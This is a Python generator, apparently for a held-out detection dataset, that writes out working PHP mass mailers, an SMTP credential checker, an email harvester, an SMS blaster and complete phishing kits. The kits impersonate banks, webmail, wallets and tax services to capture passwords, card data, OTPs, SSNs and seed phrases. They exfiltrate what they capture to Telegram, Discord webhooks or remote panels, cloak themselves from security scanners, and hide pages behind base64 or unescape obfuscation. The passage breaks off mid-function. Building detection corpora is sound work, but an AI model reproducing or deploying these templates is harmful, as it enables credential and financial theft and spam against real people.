"""Mailer and phishing templates of the fourth held-out set (README.md).
Each takes (r, S) and returns a list of (rel, text, lang). Written blind."""

import base64
import json
import urllib.parse

from common4 import dom, hexname, host, ip, rword, sq

# ---------------------------------------------------------------------------
# mailers


def _kitdir(r):
    return r.choice(("wp-content/uploads/%d/" % r.randint(2016, 2025), "tmp/", "wp-includes/css/", "cgi-bin/", "images/",
                     "wp-content/plugins/%s/" % rword(r, 6, "abcdefghijklmnop"), ""))


def leaf_ui(r, S):
    """A one-file HTML-UI mass mailer in the 'leaf' style: sender name/email,
    reply-to, subject, letter textarea, list textarea, send loop with
    placeholders and a progress line per address."""
    title = r.choice(("Leaf PHPMailer", "Owl Mailer", "Mailer Inbox Sender", "PRO Mailer v%d" % r.randint(2, 9)))
    body = """<?php
@set_time_limit(0); @ignore_user_abort(true);
$senderName = isset($_POST['senderName']) ? $_POST['senderName'] : '';
$senderEmail = isset($_POST['senderEmail']) ? $_POST['senderEmail'] : 'support@' . str_replace('www.', '', $_SERVER['HTTP_HOST']);
$subject = isset($_POST['subject']) ? $_POST['subject'] : '';
$letter = isset($_POST['messageLetter']) ? $_POST['messageLetter'] : '';
$list = isset($_POST['emailList']) ? $_POST['emailList'] : '';
$type = isset($_POST['messageType']) ? $_POST['messageType'] : 'html';
?>
<html><head><title>%(t)s</title>
<link href="https://cdn.example.org/bootstrap/3.3.7/css/bootstrap.min.css" rel="stylesheet"></head>
<body><div class="container"><h3>%(t)s <small><?php echo php_uname('n'); ?></small></h3>
<form method="post" class="form-horizontal">
<div class="col-md-6"><label>Sender Email</label><input name="senderEmail" class="form-control" value="<?php echo htmlspecialchars($senderEmail); ?>">
<label>Sender Name</label><input name="senderName" class="form-control" value="<?php echo htmlspecialchars($senderName); ?>">
<label>Reply-to</label><input name="replyTo" class="form-control">
<label>Subject</label><input name="subject" class="form-control" value="<?php echo htmlspecialchars($subject); ?>">
<label>Message Letter</label><textarea name="messageLetter" class="form-control" rows="10"><?php echo htmlspecialchars($letter); ?></textarea>
<input type="radio" name="messageType" value="html" checked> HTML <input type="radio" name="messageType" value="plain"> Plain</div>
<div class="col-md-6"><label>Email List</label><textarea name="emailList" class="form-control" rows="17"><?php echo htmlspecialchars($list); ?></textarea>
<button type="submit" name="action" value="send" class="btn btn-success btn-block">SEND</button></div>
</form>
<?php
if (@$_POST['action'] === 'send') {
    $emails = preg_split('/[\\r\\n,;]+/', trim($list));
    $n = 0;
    foreach ($emails as $to) {
        $to = trim($to); if (!filter_var($to, FILTER_VALIDATE_EMAIL)) { continue; }
        $n++;
        $msg = str_replace(array('[-email-]', '[-time-]', '[-randomnumber-]', '[-randomstring-]'),
                           array($to, date('d/m/Y H:i:s'), mt_rand(100000, 999999), substr(md5(mt_rand()), 0, 12)), $letter);
        $h = "From: $senderName <$senderEmail>\\r\\nReply-To: " . (@$_POST['replyTo'] ?: $senderEmail) . "\\r\\n";
        $h .= "MIME-Version: 1.0\\r\\nContent-Type: text/" . ($type == 'html' ? 'html' : 'plain') . "; charset=UTF-8\\r\\n";
        $h .= "X-Mailer: Microsoft Office Outlook, Build 17.551210\\r\\n";
        $ok = @mail($to, str_replace('[-email-]', $to, $subject), $msg, $h);
        echo '<div>' . $n . ' / ' . count($emails) . ' ' . htmlspecialchars($to) . ' ' . ($ok ? '<span class="label label-success">OK</span>' : '<span class="label label-danger">FAIL</span>') . '</div>';
        @flush(); @ob_flush();
    }
}
?>
</div></body></html>
""" % dict(t=title)
    return [(_kitdir(r) + r.choice(("leaf.php", "index.php", "mail.php", "m.php", hexname(r, 6) + ".php")).replace("leaf", "lf"), body, "php")]


def smtp_checker(r, S):
    """Tests a pasted list of host|port|user|pass SMTP accounts, keeps the live ones."""
    out = "good_" + hexname(r, 4) + ".txt"
    body = """<?php
@set_time_limit(0);
function tryAuth($host, $port, $user, $pass) {
    $s = @fsockopen(($port == 465 ? 'ssl://' : '') . $host, $port, $en, $es, 8);
    if (!$s) { return false; }
    $read = function () use ($s) { $d = ''; while ($l = fgets($s, 515)) { $d .= $l; if (substr($l, 3, 1) == ' ') { break; } } return $d; };
    $read(); fwrite($s, "EHLO " . gethostname() . "\\r\\n"); $read();
    if ($port == 587) { fwrite($s, "STARTTLS\\r\\n"); $read(); stream_socket_enable_crypto($s, true, STREAM_CRYPTO_METHOD_TLS_CLIENT); fwrite($s, "EHLO x\\r\\n"); $read(); }
    fwrite($s, "AUTH LOGIN\\r\\n"); $read();
    fwrite($s, base64_encode($user) . "\\r\\n"); $read();
    fwrite($s, base64_encode($pass) . "\\r\\n"); $r = $read();
    fwrite($s, "QUIT\\r\\n"); fclose($s);
    return substr($r, 0, 3) == '235';
}
if (!empty($_POST['list'])) {
    foreach (explode("\\n", $_POST['list']) as $line) {
        $p = array_map('trim', explode('|', $line));
        if (count($p) < 4) { continue; }
        $ok = tryAuth($p[0], (int) $p[1], $p[2], $p[3]);
        echo htmlspecialchars($p[0] . ' ' . $p[2]) . ($ok ? " <b style=color:green>LIVE</b>" : " dead") . "<br>\\n"; flush();
        if ($ok) { file_put_contents(__DIR__ . '/%(out)s', $line . "\\n", FILE_APPEND); %(test)s }
    }
}
?>
<form method=post><textarea name=list cols=90 rows=20 placeholder="host|port|user|pass"></textarea><br>
<input name=test placeholder="test email"><input type=submit value=Check></form>
""" % dict(out=out, test="if (!empty($_POST['test'])) { @mail($_POST['test'], 'SMTP ' . $p[0], $line); }" if r.random() < 0.6 else "")
    return [(_kitdir(r) + r.choice(("smtp.php", "chk.php", "check.php", "s.php")), body, "php")]


def list_validator(r, S):
    """Validates a mail list by MX lookup and RCPT TO probing, writes valid/invalid files."""
    body = """<?php
@set_time_limit(0);
$from = 'check@' . %(d)s;
$valid = fopen(__DIR__ . '/valid.txt', 'a'); $bad = fopen(__DIR__ . '/invalid.txt', 'a');
$list = isset($_FILES['l']) ? file($_FILES['l']['tmp_name'], FILE_IGNORE_NEW_LINES) : file(__DIR__ . '/list.txt', FILE_IGNORE_NEW_LINES);
foreach ($list as $em) {
    list(, $domain) = array_pad(explode('@', trim($em)), 2, '');
    $mx = array(); getmxrr($domain, $mx);
    if (!$mx) { fwrite($bad, $em . "\\n"); continue; }
    $s = @stream_socket_client('tcp://' . $mx[0] . ':25', $e1, $e2, 10);
    if (!$s) { fwrite($bad, $em . "\\n"); continue; }
    fgets($s); fwrite($s, "HELO " . %(d)s . "\\r\\n"); fgets($s);
    fwrite($s, "MAIL FROM:<$from>\\r\\n"); fgets($s);
    fwrite($s, "RCPT TO:<" . trim($em) . ">\\r\\n"); $code = (int) substr(fgets($s), 0, 3);
    fwrite($s, "QUIT\\r\\n"); fclose($s);
    fwrite($code == 250 ? $valid : $bad, trim($em) . "\\n");
    echo $em, ' ', $code, "<br>"; flush();
}
""" % dict(d=sq(dom(r)))
    return [(_kitdir(r) + r.choice(("v.php", "validator.php", "verify.php")), body, "php")]


def email_extractor(r, S):
    """Crawls pages from a seed list and harvests addresses into a file."""
    body = """<?php
@set_time_limit(0);
$seen = []; $queue = array_filter(array_map('trim', explode("\\n", (string) @$_POST['urls'])));
$out = fopen(__DIR__ . '/emails_' . date('md') . '.txt', 'a'); $n = 0;
while ($queue && $n < %(max)d) {
    $u = array_shift($queue); if (isset($seen[$u])) { continue; } $seen[$u] = 1; $n++;
    $html = @file_get_contents($u, false, stream_context_create(['http' => ['timeout' => 6, 'user_agent' => 'Mozilla/5.0']]));
    if (!$html) { continue; }
    if (preg_match_all('/[a-z0-9._%%+-]+@[a-z0-9.-]+\\.[a-z]{2,10}/i', $html, $m)) {
        foreach (array_unique($m[0]) as $e) { fwrite($out, strtolower($e) . "\\n"); }
    }
    if (preg_match_all('/href=["\\'](https?:\\/\\/[^"\\'#]+)/i', $html, $l)) { foreach ($l[1] as $x) { $queue[] = $x; } }
}
echo "done: $n pages";
""" % dict(max=r.choice((500, 2000, 10000)))
    return [(_kitdir(r) + r.choice(("grab.php", "ext.php", "e.php")), body, "php")]


def sms_api_blaster(r, S):
    """Sends one text to a list of numbers through an SMS/WhatsApp HTTP API."""
    api = "https://api.%s/v%d/%s" % (dom(r), r.randint(1, 3), r.choice(("messages", "sms/send", "whatsapp/send")))
    tok = base64.b64encode(bytes(r.randint(0, 255) for _ in range(24))).decode()
    body = """<?php
@set_time_limit(0);
$token = %(tok)s;
$msg = isset($_POST['msg']) ? $_POST['msg'] : file_get_contents(__DIR__ . '/msg.txt');
$nums = isset($_POST['nums']) ? explode("\\n", $_POST['nums']) : file(__DIR__ . '/numbers.txt');
$sender = isset($_POST['from']) ? $_POST['from'] : %(sid)s;
foreach ($nums as $i => $to) {
    $to = preg_replace('/\\D/', '', $to); if (strlen($to) < 8) { continue; }
    $ch = curl_init(%(api)s);
    curl_setopt_array($ch, [CURLOPT_POST => 1, CURLOPT_RETURNTRANSFER => 1,
        CURLOPT_HTTPHEADER => ['Authorization: Bearer ' . $token, 'Content-Type: application/json'],
        CURLOPT_POSTFIELDS => json_encode(['from' => $sender, 'to' => '+' . $to, 'text' => str_replace('{n}', substr($to, -4), $msg)])]);
    $res = curl_exec($ch); curl_close($ch);
    echo ($i + 1), ' +', $to, ' ', substr((string) $res, 0, 60), "<br>\\n"; flush();
    usleep(%(us)d);
}
""" % dict(tok=sq(tok), sid=sq(r.choice(("BANK", "DHL", "INFO", "Netflix", "SECURE"))), api=sq(api), us=r.choice((200000, 500000, 1000000)))
    return [(_kitdir(r) + r.choice(("sms.php", "send.php", "wa.php")), body, "php")]


def rotate_files_mailer(r, S):
    """Reads from-names, subjects, letters and lists from files and rotates them."""
    d = _kitdir(r) + rword(r, 5, "abcdefghijklmnop") + "/"
    body = """<?php
@set_time_limit(0); @ini_set('max_execution_time', 0);
$dir = __DIR__ . '/data/';
$froms = file($dir . 'froms.txt', FILE_IGNORE_NEW_LINES | FILE_SKIP_EMPTY_LINES);
$subjects = file($dir . 'subjects.txt', FILE_IGNORE_NEW_LINES | FILE_SKIP_EMPTY_LINES);
$letters = glob($dir . 'letters/*.html');
$list = file($dir . 'list.txt', FILE_IGNORE_NEW_LINES | FILE_SKIP_EMPTY_LINES);
$pos = (int) @file_get_contents($dir . 'pos');
for ($i = $pos; $i < count($list); $i++) {
    $to = trim($list[$i]);
    $from = $froms[$i %% count($froms)];
    $subj = $subjects[array_rand($subjects)];
    $html = file_get_contents($letters[$i %% count($letters)]);
    $html = strtr($html, ['%%EMAIL%%' => $to, '%%USER%%' => strstr($to, '@', true), '%%ID%%' => strtoupper(bin2hex(random_bytes(4)))]);
    $hdr = 'From: ' . $from . "\\r\\nMIME-Version: 1.0\\r\\nContent-type: text/html; charset=iso-8859-1\\r\\nX-Priority: 1\\r\\n";
    mail($to, '=?UTF-8?B?' . base64_encode($subj) . '?=', $html, $hdr, '-f' . preg_replace('/.*<|>.*/', '', $from));
    file_put_contents($dir . 'pos', $i + 1);
    if ($i %% %(batch)d == 0) { sleep(%(sl)d); }
}
"""  % dict(batch=r.choice((50, 100, 250)), sl=r.randint(2, 20))
    froms = "\n".join("%s <%s@%s>" % (n, u, dom(r)) for n, u in (("Account Service", "service"), ("Billing Team", "billing"), ("Security", "no-reply")))
    subs = "\n".join(("Your account has been limited", "Action required: verify your information", "Payment declined - update now",
                      "Unusual sign-in activity"))
    letter = "<html><body><p>Dear %%USER%%,</p><p>We noticed unusual activity. <a href=\"https://%s/verify?id=%%ID%%\">Verify now</a>.</p></body></html>\n" % dom(r)
    return [(d + "send.php", body, "php"), (d + "data/froms.txt", froms + "\n", "txt"), (d + "data/subjects.txt", subs + "\n", "txt"),
            (d + "data/letters/1.html", letter, "html")]


def json_queue_mailer(r, S):
    """Pulls jobs (recipients, letter, headers) from a remote JSON endpoint and reports back."""
    panel = "https://%s/api/%s" % (host(r), hexname(r, 6))
    body = """<?php
@ignore_user_abort(1); @set_time_limit(0);
$panel = %(p)s; $id = substr(md5($_SERVER['HTTP_HOST'] . __FILE__), 0, 10);
for ($round = 0; $round < 50; $round++) {
    $job = json_decode((string) @file_get_contents($panel . '/job?bot=' . $id . '&host=' . urlencode($_SERVER['HTTP_HOST'])), true);
    if (empty($job['to'])) { break; }
    $sent = 0;
    foreach ($job['to'] as $rcpt) {
        $h = 'From: ' . $job['from'] . "\\r\\n" . 'Content-Type: text/html; charset=utf-8' . "\\r\\n" . (isset($job['headers']) ? $job['headers'] : '');
        if (@mail($rcpt, $job['subject'], str_replace('{{to}}', $rcpt, $job['body']), $h)) { $sent++; }
    }
    @file_get_contents($panel . '/report?bot=' . $id . '&job=' . (int) $job['id'] . '&sent=' . $sent);
    sleep((int) @$job['sleep']);
}
""" % dict(p=sq(panel))
    return [(_kitdir(r) + r.choice(("wp-cron2.php", "q.php", "api.php", "class-feed.php")), body, "php")]


def cli_cron_sender(r, S):
    d = "/home/%s/.cache/%s" % (rword(r, 6, "abcdefghijklmnop"), hexname(r, 5))
    body = """<?php
if (PHP_SAPI !== 'cli') { exit; }
$base = __DIR__;
$cfg = json_decode(file_get_contents($base . '/cfg.json'), true);
$list = new SplFileObject($base . '/' . $cfg['list']);
$list->seek((int) @file_get_contents($base . '/.offset'));
$n = 0;
while (!$list->eof() && $n < $cfg['per_run']) {
    $to = trim($list->current()); $list->next(); $n++;
    if ($to === '') { continue; }
    $b = uniqid('b');
    $msg = "--$b\\r\\nContent-Type: text/html; charset=utf-8\\r\\n\\r\\n" . str_replace('#TO#', $to, file_get_contents($base . '/letter.html')) . "\\r\\n--$b--";
    mail($to, $cfg['subjects'][array_rand($cfg['subjects'])], $msg, "From: {$cfg['from']}\\r\\nMIME-Version: 1.0\\r\\nContent-Type: multipart/alternative; boundary=$b");
}
file_put_contents($base . '/.offset', $list->key());
"""
    cfg = {"list": "l.txt", "per_run": r.choice((200, 500, 1000)), "from": "Notice <info@%s>" % dom(r),
           "subjects": ["Invoice #%d" % r.randint(1000, 9999), "Document shared with you", "Your parcel is waiting"]}
    cron = "*/%d * * * * /usr/bin/php %s/run.php >/dev/null 2>&1\n" % (r.choice((5, 10, 15)), d)
    return [("run.php", body, "php"), ("cfg.json", json.dumps(cfg, indent=2) + "\n", "json"), ("crontab.txt", cron, "crontab")]


def py_smtplib_bulk(r, S):
    body = '''#!/usr/bin/env python3
import smtplib, ssl, sys, time, random
from email.mime.text import MIMEText
from email.mime.multipart import MIMEMultipart

SMTPS = [l.strip().split("|") for l in open("smtps.txt") if l.count("|") == 3]
LETTER = open("letter.html", encoding="utf-8").read()
SUBJECTS = [l.strip() for l in open("subjects.txt") if l.strip()]

def send(rcpt, n):
    host, port, user, pw = SMTPS[n %% len(SMTPS)]
    m = MIMEMultipart("alternative")
    m["From"] = "%%s <%%s>" %% (random.choice(["Support", "Billing", "Security Team"]), user)
    m["To"] = rcpt
    m["Subject"] = random.choice(SUBJECTS)
    m.attach(MIMEText(LETTER.replace("{email}", rcpt), "html"))
    with smtplib.SMTP(host, int(port), timeout=20) as s:
        s.starttls(context=ssl.create_default_context())
        s.login(user, pw)
        s.sendmail(user, [rcpt], m.as_string())

for i, line in enumerate(open(sys.argv[1] if len(sys.argv) > 1 else "list.txt")):
    try:
        send(line.strip(), i)
        print("[+]", i, line.strip())
    except Exception as e:
        print("[-]", line.strip(), e)
    time.sleep(%s)
''' % r.choice(("0.5", "1", "random.uniform(0.2, 2)"))
    return [(r.choice(("tmp/.s/", ".local/share/", "")) + r.choice(("send.py", "m.py", "run.py")), body, "python")]


def perl_netsmtp_bulk(r, S):
    body = r'''#!/usr/bin/perl
use strict; use warnings;
use Net::SMTP;
my ($list, $letter, $from, $subj) = @ARGV;
open(my $lf, '<', $letter) or die; my $html = do { local $/; <$lf> }; close $lf;
open(my $fh, '<', $list) or die "list: $!";
my $n = 0;
while (my $to = <$fh>) {
    chomp $to; next unless $to =~ /\@/;
    my $smtp = Net::SMTP->new('localhost', Timeout => 30) or next;
    $smtp->mail($from); $smtp->to($to);
    $smtp->data();
    $smtp->datasend("From: $from\nTo: $to\nSubject: $subj\nMIME-Version: 1.0\nContent-Type: text/html\n\n");
    (my $b = $html) =~ s/%EMAIL%/$to/g;
    $smtp->datasend($b); $smtp->dataend(); $smtp->quit;
    print ++$n, " $to\n";
    sleep(SLEEP) if $n % BATCH == 0;
}
'''.replace("SLEEP", str(r.randint(1, 9))).replace("BATCH", str(r.choice((20, 50, 100))))
    return [(r.choice(("cgi-bin/", "tmp/", ".x/")) + r.choice(("m.pl", "send.pl", "mail.cgi")), body, "perl")]


# ---------------------------------------------------------------------------
# phishing


BRANDS = [
    ("bank", "Online Banking", "secure-banking"), ("webmail", "Webmail", "mail-login"), ("cloud", "Cloud Drive", "docs-share"),
    ("wallet", "Wallet", "wallet-restore"), ("delivery", "Parcel Delivery", "track-parcel"), ("stream", "Streaming", "billing-update"),
    ("tax", "Tax Refund", "refund-claim"),
]


def _brand(r):
    return r.choice(BRANDS)


def _exfil(r, payload_var):
    """PHP statements sending $payload_var (a string) out, by one channel."""
    k = r.choice(("telegram_curl", "discord", "txt", "panel", "mail", "mail_and_txt"))
    if k == "telegram_curl":
        return k, ("$ch = curl_init('https://api.telegram.org/bot' . $cfg['token'] . '/sendMessage');\n"
                   "curl_setopt_array($ch, [CURLOPT_POST => 1, CURLOPT_RETURNTRANSFER => 1, CURLOPT_POSTFIELDS => ['chat_id' => $cfg['chat'], 'text' => %s, 'parse_mode' => 'HTML']]);\n"
                   "curl_exec($ch); curl_close($ch);" % payload_var)
    if k == "discord":
        return k, ("$ctx = stream_context_create(['http' => ['method' => 'POST', 'header' => \"Content-Type: application/json\\r\\n\", 'content' => json_encode(['username' => 'logs', 'content' => %s])]]);\n"
                   "@file_get_contents($cfg['webhook'], false, $ctx);" % payload_var)
    if k == "txt":
        return k, "@file_put_contents(__DIR__ . '/' . $cfg['log'], %s . \"\\n-----\\n\", FILE_APPEND | LOCK_EX);" % payload_var
    if k == "panel":
        return k, ("$ch = curl_init($cfg['panel'] . '/gate.php');\n"
                   "curl_setopt_array($ch, [CURLOPT_POST => 1, CURLOPT_RETURNTRANSFER => 1, CURLOPT_SSL_VERIFYPEER => 0, CURLOPT_POSTFIELDS => http_build_query(['k' => $cfg['key'], 'd' => base64_encode(%s)])]);\n"
                   "curl_exec($ch);" % payload_var)
    if k == "mail":
        return k, "@mail($cfg['to'], 'Rezult ' . $_SERVER['REMOTE_ADDR'], %s, 'From: Log <log@' . $_SERVER['HTTP_HOST'] . '>');" % payload_var
    return k, ("@mail($cfg['to'], 'New log | ' . $ip, %s);\n"
               "$f = fopen(__DIR__ . '/' . $cfg['log'], 'a'); fwrite($f, %s . \"\\n\"); fclose($f);" % (payload_var, payload_var))


def _cfg(r):
    tok = "%d:%s" % (r.randint(1000000000, 9999999999), rword(r, 35, "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_-"))
    return ("<?php\n$cfg = [\n    'token' => '%s',\n    'chat' => '-100%d',\n    'webhook' => 'https://discord.example.com/api/webhooks/%d/%s',\n"
            "    'log' => '%s.txt',\n    'panel' => 'https://%s',\n    'key' => '%s',\n    'to' => 'rezult%d@%s',\n    'redirect' => 'https://www.%s/',\n];\n"
            % (tok, r.randint(1000000000, 9999999999), r.randint(10 ** 17, 10 ** 18), rword(r, 40), hexname(r, 8), host(r), hexname(r, 12),
               r.randint(1, 99), dom(r), dom(r)))


def _antibot(r):
    """An anti-bot include in one of many forms; returns (rel, text, lang) list."""
    k = r.choice(("cidr_array", "ua_regex", "hostname", "geo_api", "ref_token"))
    if k == "cidr_array":
        nets = ", ".join("'%s/%d'" % (ip(r).rsplit(".", 1)[0] + ".0", r.choice((16, 20, 24))) for _ in range(r.randint(8, 20)))
        body = ("<?php\n$nets = [%s];\n$ip = $_SERVER['REMOTE_ADDR'];\nforeach ($nets as $n) {\n    list($sub, $bits) = explode('/', $n);\n"
                "    if ((ip2long($ip) & ~((1 << (32 - $bits)) - 1)) == ip2long($sub)) { header('HTTP/1.0 404 Not Found'); die('<h1>404 Not Found</h1>'); }\n}\n" % nets)
    elif k == "ua_regex":
        body = ("<?php\nif (preg_match('/bot|crawl|spider|slurp|curl|wget|python|phantom|headless|facebookexternalhit|google|bing|yandex|baidu|virustotal|phishtank|netcraft|urlscan/i', (string) @$_SERVER['HTTP_USER_AGENT'])) {\n"
                "    header('Location: https://www.%s/'); exit;\n}\n" % dom(r))
    elif k == "hostname":
        body = ("<?php\n$h = strtolower(gethostbyaddr($_SERVER['REMOTE_ADDR']));\n"
                "foreach (['amazonaws', 'googleusercontent', 'digitalocean', 'msnbot', 'kaspersky', 'paypal', 'phish', 'trendmicro', 'netcraft', 'ovh'] as $w) {\n"
                "    if (strpos($h, $w) !== false) { http_response_code(403); exit; }\n}\n")
    elif k == "geo_api":
        body = ("<?php\n$g = @json_decode(file_get_contents('http://geo.%s/json/' . $_SERVER['REMOTE_ADDR'] . '?fields=countryCode,isp,hosting'), true);\n"
                "if (!$g || !empty($g['hosting']) || !in_array($g['countryCode'], [%s], true)) { header('Location: https://www.%s/'); exit; }\n"
                "$_SESSION['country'] = $g['countryCode'];\n" % (dom(r), ", ".join("'%s'" % c for c in r.sample(("US", "GB", "CA", "AU", "DE", "FR", "IT", "ES", "NL"), 3)), dom(r)))
    else:
        body = ("<?php\nif (empty($_GET['t']) || !hash_equals(substr(md5(date('Ymd') . 'x9'), 0, 8), (string) $_GET['t'])) {\n"
                "    header('Location: https://www.%s/'); exit;\n}\n" % dom(r))
    return k, body


def _visitors(r):
    return ("<?php\n$line = date('Y-m-d H:i:s') . ' | ' . $_SERVER['REMOTE_ADDR'] . ' | ' . @$_SERVER['HTTP_USER_AGENT'] . ' | ' . @$_SESSION['country'] . \"\\n\";\n"
            "@file_put_contents(__DIR__ . '/visitors.txt', $line, FILE_APPEND);\n")


FIELDS = {
    "bank": [("user", "User ID"), ("pass", "Password"), ("card", "Card number"), ("exp", "Expiry"), ("cvv", "CVV"), ("otp", "SMS code")],
    "webmail": [("email", "Email"), ("password", "Password")],
    "cloud": [("email", "Email address"), ("password", "Password"), ("phone", "Recovery phone")],
    "wallet": [("phrase", "12 or 24 word recovery phrase"), ("wpass", "Wallet password")],
    "delivery": [("name", "Full name"), ("addr", "Address"), ("cc", "Card number"), ("exp", "MM/YY"), ("cvv", "Security code")],
    "stream": [("email", "Email"), ("password", "Password"), ("cc", "Card number"), ("exp", "Expiry"), ("cvc", "CVC")],
    "tax": [("ssn", "SSN / tax ID"), ("dob", "Date of birth"), ("cc", "Card for refund"), ("exp", "Expiry"), ("pin", "ATM PIN")],
}


def _page(r, title, fields, action):
    inputs = "\n".join('      <label>%s</label><input type="%s" name="%s" required>' % (lab, "password" if "pass" in n or n in ("pin", "cvv", "cvc") else "text", n)
                       for n, lab in fields)
    return ("<!DOCTYPE html>\n<html lang=\"en\"><head><meta charset=\"utf-8\"><title>%s - Sign in</title>\n"
            "<meta name=\"robots\" content=\"noindex, nofollow\">\n<link rel=\"stylesheet\" href=\"assets/css/app.css\"></head>\n"
            "<body><div class=\"box\"><img src=\"assets/img/logo.svg\" alt=\"%s\">\n    <form method=\"post\" action=\"%s\">\n%s\n"
            "      <button type=\"submit\">Continue</button>\n    </form>\n</div></body></html>\n" % (title, title, action, inputs))


def session_steps(r, S):
    """A kit whose steps are separate files chained by $_SESSION, anti-bot and visitor log included."""
    kind, title, d = _brand(r)
    base = d + "-" + hexname(r, 4) + "/"
    fields = FIELDS[kind]
    steps = [fields[i:i + 2] for i in range(0, len(fields), 2)]
    abk, ab = _antibot(r)
    ek, ex = _exfil(r, "$msg")
    files = [(base + "config.php", _cfg(r), "php"), (base + "inc/filter.php", ab, "php"), (base + "inc/visitors.php", _visitors(r), "php")]
    for i, st in enumerate(steps):
        nxt = "step%d.php" % (i + 2) if i + 1 < len(steps) else "done.php"
        keys = ", ".join("'%s'" % n for n, _ in st)
        php = ("<?php\nsession_start();\nrequire __DIR__ . '/config.php';\nrequire __DIR__ . '/inc/filter.php';\nrequire __DIR__ . '/inc/visitors.php';\n"
               "if ($_SERVER['REQUEST_METHOD'] === 'POST') {\n    foreach ([%s] as $k) { $_SESSION['d'][$k] = trim((string) @$_POST[$k]); }\n"
               "    $ip = $_SERVER['REMOTE_ADDR'];\n    $msg = \"[%s step %d] \" . $ip . \"\\n\" . print_r($_SESSION['d'], true);\n    %s\n"
               "    header('Location: %s'); exit;\n}\n?>\n" % (keys, title, i + 1, ex.replace("\n", "\n    "), nxt))
        files.append((base + ("index.php" if i == 0 else "step%d.php" % (i + 1)), php + _page(r, title, st, ""), "php"))
    files.append((base + "done.php", "<?php\nsession_start();\nrequire __DIR__ . '/config.php';\nsession_destroy();\n"
                  "header('Refresh: 3; url=' . $cfg['redirect']);\n?>\n<p>Thank you. Your information has been verified.</p>\n", "php"))
    return files, "%s/%s/%s" % (kind, abk, ek)


def one_handler(r, S):
    """HTML page + a single post.php that ships the fields and redirects to the real brand."""
    kind, title, d = _brand(r)
    base = r.choice(("", "wp-content/", "wp-admin/css/", ".well-known/")) + d + "/"
    ek, ex = _exfil(r, "$msg")
    php = ("<?php\n@session_start();\nrequire 'config.php';\n$ip = getenv('HTTP_CLIENT_IP') ?: (getenv('HTTP_X_FORWARDED_FOR') ?: getenv('REMOTE_ADDR'));\n"
           "$msg = \"+++ %s +++\\n\";\nforeach ($_POST as $k => $v) { $msg .= ucfirst($k) . ': ' . $v . \"\\n\"; }\n"
           "$msg .= 'IP: ' . $ip . \"\\nUA: \" . $_SERVER['HTTP_USER_AGENT'] . \"\\n\";\n%s\nheader('Location: ' . $cfg['redirect']);\n" % (title.upper(), ex))
    return [(base + "config.php", _cfg(r), "php"), (base + "post.php", php, "php"),
            (base + "index.html", _page(r, title, FIELDS[kind], "post.php"), "html")], kind + "/" + ek


def html_obfuscated(r, S):
    """One HTML file: the page is written by document.write(unescape(...)) or an
    <iframe src=data:...;base64>, and the form posts elsewhere."""
    kind, title, d = _brand(r)
    page = _page(r, title, FIELDS[kind], "https://%s/%s.php" % (host(r), hexname(r, 6)))
    k = r.choice(("unescape", "iframe_b64", "atob_write"))
    if k == "unescape":
        inner = "<script>document.write(unescape('%s'));</script>" % urllib.parse.quote(page, safe="")
    elif k == "iframe_b64":
        inner = '<iframe src="data:text/html;base64,%s" style="border:0;width:100%%;height:100vh"></iframe>' % base64.b64encode(page.encode()).decode()
    else:
        v = "_0x" + hexname(r, 4)
        inner = "<script>var %s='%s';document.write(decodeURIComponent(escape(atob(%s))));</script>" % (v, base64.b64encode(page.encode()).decode(), v)
    html = "<!DOCTYPE html><html><head><meta charset=\"utf-8\"><title>%s</title></head><body>%s</body></html>\n" % (title, inner)
    name = r.choice(("index.html", "%s.html" % hexname(r, 6), "Invoice_%d.htm" % r.randint(1000, 99999), "view.shtml"))
    return [(r.choice(("", "docs/", "wp-content/uploads/%d/" % r.randint(2018, 2025))) + name, html, "html")], kind + "/" + k


def html_inline_exfil(r, S):
    """Kit shipped as one HTML file, inline JS collecting the fields and sending them
    (XHR to a remote PHP, Telegram bot API, or a form-encoded image beacon)."""
    kind, title, d = _brand(r)
    k = r.choice(("xhr", "telegram", "beacon"))
    tok = "%d:%s" % (r.randint(10 ** 9, 10 ** 10 - 1), rword(r, 35))
    send = {"xhr": "var x=new XMLHttpRequest();x.open('POST','https://%s/%s.php',true);x.setRequestHeader('Content-Type','application/x-www-form-urlencoded');x.send(q);" % (host(r), hexname(r, 5)),
            "telegram": "fetch('https://api.telegram.org/bot%s/sendMessage?chat_id=%d&text='+encodeURIComponent(q));" % (tok, r.randint(10 ** 8, 10 ** 9)),
            "beacon": "new Image().src='https://%s/p.gif?'+q;" % host(r)}[k]
    inputs = "".join('<input name="%s" placeholder="%s">' % (n, lab) for n, lab in FIELDS[kind])
    html = ("<!DOCTYPE html><html><head><meta charset=\"utf-8\"><title>%s</title></head><body>\n<form id=\"f\">%s<button>Next</button></form>\n"
            "<script>\ndocument.getElementById('f').addEventListener('submit',function(e){e.preventDefault();\n"
            "var q=[].map.call(this.elements,function(el){return el.name?el.name+'='+encodeURIComponent(el.value):'';}).join('&')+'&ua='+encodeURIComponent(navigator.userAgent);\n"
            "%s\nsetTimeout(function(){location.href='https://www.%s/';},1200);});\n</script></body></html>\n" % (title, inputs, send, dom(r)))
    return [(r.choice(("", "s/", "login/")) + r.choice(("index.html", "login.html", "%s.html" % hexname(r, 6))), html, "html")], kind + "/" + k


def wallet_seed(r, S):
    """Crypto wallet 'restore' page: 12/24-word phrase validated client side, posted to a PHP that mails/logs it."""
    ek, ex = _exfil(r, "$msg")
    base = r.choice(("", "wp-content/uploads/", "app/")) + r.choice(("restore", "sync", "validate", "dapp-connect")) + "/"
    php = ("<?php\nrequire __DIR__ . '/config.php';\n$ip = $_SERVER['REMOTE_ADDR'];\n$w = preg_replace('/[^a-z ]/', '', strtolower((string) @$_POST['phrase']));\n"
           "if (str_word_count($w) < 12) { header('Location: index.html?e=1'); exit; }\n"
           "$msg = \"Wallet: \" . @$_POST['wallet'] . \"\\nPhrase: \" . $w . \"\\nIP: \" . $ip;\n%s\necho json_encode(['ok' => true]);\n" % ex)
    html = ("<!DOCTYPE html><html><head><title>Wallet Sync</title></head><body>\n<select id=\"wallet\"><option>MetaMask</option><option>Trust Wallet</option><option>Ledger Live</option></select>\n"
            "<textarea id=\"phrase\" placeholder=\"Enter your 12 or 24 word recovery phrase\"></textarea><button id=\"go\">Connect</button>\n"
            "<script>\ndocument.getElementById('go').onclick=function(){var p=document.getElementById('phrase').value.trim();\n"
            "if(p.split(/\\s+/).length<12){alert('Invalid phrase');return;}\n"
